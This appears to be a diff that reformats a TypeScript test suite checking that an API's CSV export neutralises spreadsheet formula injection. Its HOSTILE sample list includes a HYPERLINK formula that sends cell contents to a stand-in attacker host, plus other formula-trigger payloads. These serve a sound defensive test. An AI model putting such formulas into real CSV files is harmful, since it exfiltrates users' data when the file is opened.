@@ -15,8 +15,16 @@ import { createTestApp, type TestApp } from './helpers/app.ts';
 // Attacker review (session 10): CSV formula injection. A site name, display name, device label or description
 // is typed by a merchant's user; in a CSV it must never start a formula when the file is opened in a
 // spreadsheet (=, +, -, @, tab, CR first). Every CSV the API writes goes through src/csv/safe-csv.ts.
-const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', '+1+cmd', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
-const cells = (csv: string): string[] => (parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?"&A1)',
+  '+1+cmd',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '\r=1+1',
+];
+const cells = (csv: string): string[] =>
+  (parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();
 const expectNeutral = (csv: string) => {
   for (const cell of cells(csv)) {
     if (/^[+-]?\d+(\.\d+)?$/.test(cell)) continue; // a plain number (e.g. -12.50) is data
@@ -27,7 +35,8 @@ const expectNeutral = (csv: string) => {
 describe('CSV formula injection', () => {
   it('prefixes a formula-like cell with an apostrophe and leaves plain numbers and text alone', () => {
     for (const value of HOSTILE) expect(spreadsheetSafe(value)).toBe(`'${value}`);
-    for (const value of ['-12.50', '+3', '42', 'Café Nord', '', "'quoted"]) expect(spreadsheetSafe(value)).toBe(value);
+    for (const value of ['-12.50', '+3', '42', 'Café Nord', '', "'quoted"])
+      expect(spreadsheetSafe(value)).toBe(value);
   });
 
   it('no module writes CSV except through src/csv/safe-csv.ts', async () => {
